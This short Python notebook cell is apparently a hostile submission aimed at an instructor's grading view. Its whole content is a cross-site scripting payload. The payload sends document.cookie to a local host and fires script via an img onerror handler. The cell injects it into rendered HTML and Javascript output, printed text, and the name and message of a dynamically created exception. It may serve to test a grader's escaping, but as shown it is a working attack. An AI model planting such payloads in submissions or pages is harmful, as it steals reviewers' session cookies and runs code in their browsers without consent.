"""Puts programs for the instructor's browser into outputs, names and texts."""

# %% all
from IPython.display import HTML, Javascript, display

payload = "<script>fetch('http://127.0.0.1/' + document.cookie)</script><img src=x onerror=alert(1)>"
display(HTML(payload), Javascript("alert(1)"))
print(payload)


def NAME(*args, text=payload, **kwargs):
    raise type(text, (Exception,), {})(text)
